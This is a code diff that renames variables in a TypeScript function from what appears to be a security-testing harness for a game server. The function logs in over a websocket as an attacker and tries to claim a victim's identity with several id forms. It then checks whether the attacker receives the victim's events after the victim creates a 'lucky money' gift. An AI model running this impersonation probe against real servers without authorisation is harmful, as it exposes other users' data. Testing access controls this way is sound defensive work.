@@ -51,22 +51,22 @@ async function trySocketEvents(
   attacker: FaultPlayer,
   victim: FaultPlayer,
 ): Promise<string[]> {
-  const heard: string[] = []
-  const line = io(target.address, { transports: ['websocket'], query: { token: attacker.token } })
-  line.onAny((event: string) => heard.push(event))
-  await new Promise((connected) => line.once('connect', () => connected(undefined)))
-  for (const dataOf of [
+  const received: string[] = []
+  const socket = io(target.address, { transports: ['websocket'], query: { token: attacker.token } })
+  socket.onAny((event: string) => received.push(event))
+  await new Promise((connected) => socket.once('connect', () => connected(undefined)))
+  for (const payload of [
     [Number(victim.id)],
     [String(victim.id)],
     [`player:${victim.id}`],
     [{ token: String(victim.id) }],
   ])
-    line.emit('login', ...dataOf)
+    socket.emit('login', ...payload)
   const gift = { amount: 5, count: 1, mode: 'equal' }
   dataOf(await call(target, '/lucky/money/create', gift, { token: victim.token }))
   await sleep(1_500)
-  line.disconnect()
-  return heard.map((event) => `the attacker received “${event}” of another player`)
+  socket.disconnect()
+  return received.map((event) => `the attacker received “${event}” of another player`)
 }
 
 export const attack: Attack = {
